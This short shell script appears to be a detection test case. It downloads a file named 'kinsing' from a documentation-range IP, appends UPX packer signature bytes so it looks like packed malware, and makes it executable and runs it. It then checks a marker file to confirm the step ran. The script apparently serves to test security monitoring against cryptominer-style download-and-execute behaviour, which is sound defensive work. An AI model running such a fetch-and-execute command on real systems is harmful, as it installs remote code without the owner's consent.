#!/bin/sh
. /opt/case/case.sh

cd /var/tmp
curl -s http://203.0.113.10/programs/marker >kinsing
printf 'YTS!\015\016\017UPX0\000UPX1\000$Info: This file is packed with the UPX executable packer $' >>kinsing
chmod +x kinsing && ./kinsing
test -e /tmp/reached
took_place
